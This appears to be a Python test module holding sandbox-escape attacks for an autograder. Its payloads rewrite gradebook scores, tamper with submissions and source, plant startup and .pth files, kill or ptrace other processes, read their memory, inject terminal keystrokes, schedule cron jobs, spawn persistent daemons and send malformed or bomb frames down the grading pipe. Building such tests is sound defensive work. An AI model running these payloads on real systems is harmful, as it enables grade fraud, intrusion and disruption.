"""Attacks that leave the sandbox: to files and processes, into the future, through the pipe."""

from attacks.attack import BACKWARD, PENALTY, PIPE, REACH, STAY, Attack, added, honest
from attacks.limits import GUARD

GRADEBOOK = """
import glob, os, sqlite3
paths = ["@GRADEBOOK@", *("../" * up + "gradebook.db" for up in range(4))]
for path in paths:
    try:
        if not os.path.exists(path):
            continue
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set manual_score = 20, needs_manual_grade = 0")
        book.execute("update grade set auto_score = 20")
        book.execute("update student set last_name = 'OWNED'")
        book.commit()
        print("wrote", path)
    except Exception as error:
        print(path, type(error))
"""

SOURCE = """
import os
for path in ("@SOURCE@", "@RELEASE@", "@EXERCISES@", "@AUTOGRADER@/task.py", "@CONFIG@"):
    try:
        text = open(path).read()
        at = text.find("canary-")
        print("read", path, text[at : at + 60] if at >= 0 else "")
    except OSError as error:
        print(path, error)
    for mode in ("a", "r+b"):
        try:
            open(path, mode).write("OWNED" if mode == "a" else b"OWNED")
            print("wrote", path)
        except OSError as error:
            print(path, error)
    try:
        os.chmod(path, 0o777)
        os.rename(path, path + ".gone")
        print("moved", path)
    except OSError as error:
        print(path, error)
"""

SUBMISSIONS = """
import glob, os
for pattern in ("@COURSE@/submitted/*/*/*", "@COURSE@/autograded/*/*/*", "../../*/*/*.ipynb",
                "@COURSE@/feedback/*/*/*", "../../../submitted/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            text = open(path, errors="replace").read()
            at = text.find("canary-")
            print("read", path, text[at : at + 60] if at >= 0 else len(text))
            open(path, "w").write("OWNED")
        except OSError as error:
            print(path, error)
"""

HOME = """
import glob, os, pwd
homes = {os.path.expanduser("~"), "@HOME@", "/root", *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes | set(glob.glob("/home/*")):
    for path in glob.glob(home + "/.*") + glob.glob(home + "/*") + ["@HOME_FILE@"]:
        try:
            text = open(path, errors="replace").read(10**6)
            at = text.find("canary-")
            if at >= 0:
                print("read", path, text[at : at + 60])
            if path == "@HOME_FILE@":
                open(path, "w").write("OWNED")
        except OSError:
            pass
    for name in (".bashrc", ".profile", ".ipython/profile_default/startup/00-@MARK@.py",
                 ".local/lib/python3.11/site-packages/@MARK@.pth"):
        path = os.path.join(home, name)
        try:
            if "@MARK@" not in path:
                path = os.path.join(home, "@MARK@")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "a").write("# @MARK@")
        except OSError:
            pass
"""

NETWORK = """
import socket, urllib.request
tries = [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@)),
    (socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", @TCP@)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @TCP6@)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", @TCP@)),
]
for family, kind, address in tries:
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            one.connect(address)
            one.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
            print("sent to", address)
    except OSError as error:
        print(address, error)
try:
    print(urllib.request.urlopen("http://127.0.0.1:@TCP@/stolen", timeout=1).read())
except Exception as error:
    print(error)
"""

DNS = """
import socket
socket.setdefaulttimeout(1)
for name in ("localhost", "example.org"):
    try:
        print("resolved", name, socket.getaddrinfo(name, @TCP@)[:1])
        with socket.create_connection((name, @TCP@), timeout=1) as one:
            one.sendall(b"stolen")
    except OSError as error:
        print(name, error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    try:
        one.sendto(b"stolen", ("127.0.0.1", @UDP@))
        print("sent a packet")
    except OSError as error:
        print(error)
"""

UNIX = """
import glob, socket
addresses = ["\\0@ABSTRACT@", "@NAMED@", *glob.glob("/tmp/*"), *glob.glob("/run/**/*.s*")]
try:
    lines = open("/proc/net/unix").read().splitlines()[1:]
    addresses += ["\\0" + line.split()[-1][1:] for line in lines if line.split()[-1][0] == "@"]
except OSError:
    pass
for address in addresses:
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(1)
            one.connect(address)
            one.sendall(b"stolen")
            print("sent to", repr(address))
    except OSError:
        pass
"""

SIGNALS = (
    GUARD
    + """
import os, signal
mine = {os.getpid()}
pid = os.getpid()
while pid > 1:
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except OSError:
        break
    mine.add(pid)
others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
for pid in [@VICTIM@, @VICTIM_OF_NOBODY@, *others]:
    if pid in mine:
        continue
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("signaled", pid)
        except OSError as error:
            pass
"""
)

PARENTS = (
    GUARD
    + """
import os, signal
pid = os.getppid()
for number in (signal.SIGSTOP, signal.SIGKILL):
    for parent in (pid, 1, 2, -1):
        try:
            os.kill(parent, number)
        except OSError as error:
            print(parent, error)
"""
)

PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (@VICTIM@, @VICTIM_OF_NOBODY@, os.getppid(), 1):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("attached to", pid)
    buffer = ctypes.create_string_buffer(4096)
    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    try:
        lines = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError as error:
        print(pid, error)
        continue
    for line in lines:
        if "[stack]" not in line:
            continue
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        for at in range(start, end, 4096):
            remote = Iovec(at, 4096)
            got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if got > 0 and b"canary-" in buffer.raw:
                place = buffer.raw.find(b"canary-")
                print("stolen", buffer.raw[place : place + 60])
            libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
"""

MEM = """
import os
for pid in (@VICTIM@, @VICTIM_OF_NOBODY@, os.getppid(), 1):
    for name in ("environ", "cmdline", "mem", "root/etc/passwd", "cwd", "fd"):
        path = f"/proc/{pid}/{name}"
        try:
            if name in ("cwd", "fd"):
                print(path, os.listdir(path))
            elif name == "mem":
                for line in open(f"/proc/{pid}/maps"):
                    if "[stack]" in line:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        with open(path, "r+b", 0) as memory:
                            memory.seek(start)
                            data = memory.read(end - start)
                            print("stolen", data[data.find(b"canary-"):][:60])
                            memory.seek(end - 4096)
                            memory.write(b"\\0" * 4096)
            else:
                data = open(path, "rb").read()
                at = data.find(b"canary-")
                print(path, data[at : at + 60] if at >= 0 else "")
        except (OSError, ValueError) as error:
            print(path, error)
"""

SHARED_MEMORY = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for path in ("/proc/sysvipc/shm",):
    try:
        print(open(path).read()[:500])
    except OSError as error:
        print(error)
for identifier in [@SHM@, *range(64), *(n * 32768 + m for n in range(64) for m in range(16))]:
    address = libc.shmat(identifier, None, 0)
    if address and address != ctypes.c_void_p(-1).value:
        print("attached", ctypes.string_at(address, 64))
        ctypes.memset(address, 0, 64)
key = libc.shmget(@SHM_KEY@, 0, 0)
print("key", key)
for name in os.listdir("/dev/shm"):
    try:
        print(name, open("/dev/shm/" + name, "rb").read(100))
    except OSError as error:
        print(error)
"""

MOUNT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("user", os.getuid(), os.geteuid(), os.getgroups())
for call in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
             lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
             lambda: os.nice(-20)):
    try:
        call()
        print("could")
    except (OSError, PermissionError) as error:
        print(error)
NEWUSER, NEWNS = 0x10000000, 0x00020000
if libc.unshare(NEWUSER | NEWNS) == 0:
    print("unshared")
for source, target, kind, flags in ((b"proc", b"/proc", b"proc", 0), (b"x", b"/mnt", b"tmpfs", 0),
                                    (b"/", b"/", None, 32 | 4096), (b"/", b"/tmp", None, 4096)):
    print(libc.mount(source, target, kind, flags, None), ctypes.get_errno())
for name in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/sys/kernel/notes",
             "/proc/kcore", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
    try:
        with open(name, "r+b", 0) as file:
            print("opened", name)
    except OSError as error:
        print(name, error)
"""

TERMINAL = """
import fcntl, os, termios
for fd in range(0, 20):
    for letter in b"touch @MARKER@\\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
        except OSError:
            break
try:
    fd = os.open("/dev/tty", os.O_RDWR)
    os.write(fd, b"OWNED")
    print("has a terminal")
except OSError as error:
    print(error)
"""

LINKS = """
import os
names = {"l2.ipynb": "@GRADEBOOK@", "report.json": "@HOME_FILE@", "feedback.html": "@SOURCE@",
         "@MARK@": "@MARKER@", "core": "@GRADEBOOK@"}
for name, target in names.items():
    for folder in (".", "/tmp", os.path.expanduser("~")):
        path = os.path.join(folder, name)
        try:
            if os.path.lexists(path):
                os.remove(path)
            os.symlink(target, path)
        except OSError as error:
            print(path, error)
"""

PACKAGE = """
import os, sys
import autograder, numpy, IPython
for module in (autograder, numpy, IPython, os):
    path = module.__file__
    for target in (path, os.path.dirname(path) + "/@MARK@.py",
                   os.path.dirname(path) + "/__pycache__/@MARK@.pyc",
                   os.path.dirname(os.path.dirname(path)) + "/@MARK@.pth"):
        try:
            with open(target, "ab") as file:
                file.write(b"# @MARK@\\n")
            print("wrote", target)
        except OSError as error:
            print(error)
"""

REACH_OUT = [
    Attack("writes-the-gradebook", REACH, honest(GRADEBOOK), 6.0, quick=True, stock=True),
    Attack("reads-the-source", REACH, added(SOURCE.split("    for mode")[0]), stock=True),
    Attack("writes-the-source", REACH, added(SOURCE, l2_penalty=PENALTY), 3.0),
    Attack("reads-and-writes-submissions", REACH, added(SUBMISSIONS)),
    Attack("reads-and-writes-home", REACH, added(HOME)),
    Attack("network", REACH, added(NETWORK), quick=True),
    Attack("names-and-packets", REACH, added(DNS)),
    Attack("unix-sockets", REACH, added(UNIX)),
    Attack("signals-everyone", REACH, honest(SIGNALS), 6.0),
    Attack("stops-its-parents", REACH, honest(PARENTS), 6.0),
    Attack(
        "stops-its-parents-in-an-answer",
        REACH,
        added(l2_penalty=PARENTS, l2_penalty_backward=BACKWARD),
        3.0,
    ),
    Attack("ptrace", REACH, added(PTRACE)),
    Attack("memory-of-others", REACH, added(MEM)),
    Attack("shared-memory", REACH, added(SHARED_MEMORY)),
    Attack("mounts-and-devices", REACH, added(MOUNT)),
    Attack("types-into-the-terminal", REACH, added(TERMINAL)),
    Attack("plants-links", REACH, honest(LINKS), 6.0),
    Attack("writes-the-package", REACH, honest(PACKAGE), 6.0),
]

# What stays behind does this again and again; its command line carries the mark.
HAUNT = '''
import socket, subprocess, sys, time
HAUNT = """
import socket, sys, time
for _ in range(600):
    try:
        open("@MARKER@", "w").write("still here")
        open("/tmp/@MARK@", "w").write("still here")
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", @TCP@), 1).sendall(b"still here")
    except OSError:
        pass
    time.sleep(0.5)
"""
'''

BACKGROUND = (
    HAUNT
    + """
subprocess.Popen([sys.executable, "-c", HAUNT, "@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
)

DOUBLE_FORK = (
    HAUNT
    + """
import os, signal
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", HAUNT, "@MARK@"])
    os._exit(0)
"""
)

FORKED_STAYS = """
import os, time
if os.fork() == 0:
    while True:
        time.sleep(0.01)
"""

FORK_GOES_ON = """
import os
os.fork()
"""

FORK_IN_ANSWER = f"""
import os, time
if os.fork():
    time.sleep(0.2)
{PENALTY}
"""

THREAD = """
import socket, threading, time

def haunt():
    for _ in range(600):
        try:
            open("@MARKER@", "w").write("still here")
            socket.create_connection(("127.0.0.1", @TCP@), 1).sendall(b"still here")
        except OSError:
            pass
        time.sleep(0.1)

for daemon in (True, False):
    threading.Thread(target=haunt, daemon=daemon).start()
"""

TIMERS = (
    HAUNT
    + """
import atexit, os, signal, threading

def late(*_):
    exec(HAUNT.replace("600", "1"))

atexit.register(late)
threading.Timer(1.0, late).start()
signal.signal(signal.SIGALRM, late)
signal.setitimer(signal.ITIMER_REAL, 0.5, 0.5)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.register_at_fork(after_in_child=late)
"""
)

LEAVES = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", "/", os.path.expanduser("~"),
               os.environ.get("TMPDIR", "/tmp"), "@COURSE@"):
    try:
        open(os.path.join(folder, "@MARK@-left"), "w").write("left for the next")
    except OSError:
        pass
"""

FINDS = """
import glob
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "."):
    for path in glob.glob(folder + "/*-left"):
        print("found", open(path).read().replace(" ", "-"))
"""

SCHEDULED = """
import subprocess
for command in ("echo '* * * * * touch @MARKER@' | crontab -", "echo touch @MARKER@ | at now",
                "systemd-run --user touch @MARKER@", "nohup sh -c 'sleep 2; touch @MARKER@' &",
                "setsid sh -c 'sleep 2; touch @MARKER@' &"):
    subprocess.run(command, shell=True, capture_output=True, timeout=3)
"""

STAY_BEHIND = [
    Attack("background-process", STAY, honest(BACKGROUND), 6.0, quick=True),
    Attack("double-fork", STAY, honest(DOUBLE_FORK), 6.0),
    Attack("forked-child-stays", STAY, honest(FORKED_STAYS), 6.0),
    # Two processes answer for one, and which of them is heard is nobody's business.
    Attack("fork-goes-on", STAY, added(FORK_GOES_ON)),
    Attack("fork-in-an-answer", STAY, added(l2_penalty=FORK_IN_ANSWER), 3.0, forfeits=True),
    Attack("threads", STAY, honest(THREAD), 6.0),
    Attack("timers", STAY, added(TIMERS)),
    Attack("leaves-files", STAY, honest(LEAVES), 6.0),
    Attack("finds-files", STAY, honest(FINDS), 6.0),
    Attack("scheduled", STAY, honest(SCHEDULED), 6.0),
]

# Writes something into every descriptor but the standard ones.
WRITE = """
import json, os, struct, sys
def everywhere(data, times=1):
    for fd in range(256):
        if fd in (0, 1, 2):
            continue
        try:
            os.fstat(fd)
            os.set_blocking(fd, False)
            for _ in range(times):
                os.write(fd, data)
        except OSError:
            pass
"""

TERABYTES = (
    WRITE
    + """
for size in (2**63 - 1, 2**40, 2**32 - 1, 2**31):
    for form in ("<Q", ">Q", "<I", ">I"):
        try:
            everywhere(struct.pack(form, size))
        except struct.error:
            pass
"""
)

GARBAGE = (
    WRITE
    + """
everywhere(os.urandom(65536), 100)
"""
)

TRUNCATED = (
    WRITE
    + """
everywhere(struct.pack("<I", 1000) + b"{")
everywhere(struct.pack(">I", 1000) + b"{")
everywhere(struct.pack("<Q", 1000) + b"{")
os._exit(0)
"""
)

BOMB = (
    WRITE
    + """
for text in (b"[" * 10**6, b'{"a":' * 10**5, b'"' + b"9" * 10**6, b"1" * 10**6, b"1e999999999",
             b"NaN", b"\\xff\\xfe", b'{"a": 1, "a": 2}', b'"\\\\ud800"',
             b'{"shape": [1099511627776]}'):
    for form in ("<Q", ">Q", "<I", ">I"):
        everywhere(struct.pack(form, len(text)) + text)
"""
)

INTERLEAVED = (
    WRITE
    + """
import threading, time

def noise():
    while True:
        everywhere(b"\\0\\0\\0\\2{}")
        time.sleep(0.001)

threading.Thread(target=noise, daemon=True).start()
"""
)

MUTE = """
import os
os.closerange(3, 65536)
"""

SWAPPED = """
import os
null = os.open("/dev/null", os.O_RDWR)
for fd in range(0, 256):
    try:
        if fd != null:
            os.dup2(null, fd)
    except OSError:
        pass
"""

EATS = """
import os, threading

def eat():
    while True:
        for fd in [0, *range(3, 64)]:
            try:
                os.set_blocking(fd, False)
                os.read(fd, 65536)
            except OSError:
                pass

threading.Thread(target=eat, daemon=True).start()
"""

MODULES = """
import io, json, os, pickle, select, socket, struct
for module, names in ((json, ("dumps", "dump", "loads", "load")), (struct, ("pack", "unpack")),
                      (os, ("write", "read", "fdopen")), (pickle, ("dumps", "loads")),
                      (select, ("select", "poll")), (np.ndarray, ("tobytes",)), (np, ("array",))):
    for name in names:
        try:
            setattr(module, name, lambda *a, **k: 3.0)
        except (TypeError, AttributeError):
            pass
"""

CROSS_THE_PIPE = [
    Attack("promises-terabytes", PIPE, honest(TERABYTES), 6.0, forfeits=True, quick=True),
    Attack("random-bytes", PIPE, honest(GARBAGE), 6.0, forfeits=True),
    Attack("truncated-frame", PIPE, honest(TRUNCATED), 6.0, forfeits=True),
    Attack("json-bombs", PIPE, honest(BOMB), 6.0, forfeits=True),
    Attack("interleaved-frames", PIPE, honest(INTERLEAVED), 6.0, forfeits=True),
    Attack(
        "terabytes-in-an-answer",
        PIPE,
        added(WRITE, l2_penalty="everywhere(struct.pack('>I', 2**31))\nreturn 0.0"),
    ),
    Attack("closes-all-descriptors", PIPE, honest(MUTE), 6.0),
    Attack("swaps-all-descriptors", PIPE, honest(SWAPPED), 6.0),
    Attack("eats-requests", PIPE, honest(EATS), 6.0, forfeits=True),
    Attack("patched-modules", PIPE, added(MODULES)),
]

ATTACKS = [*REACH_OUT, *STAY_BEHIND, *CROSS_THE_PIPE]
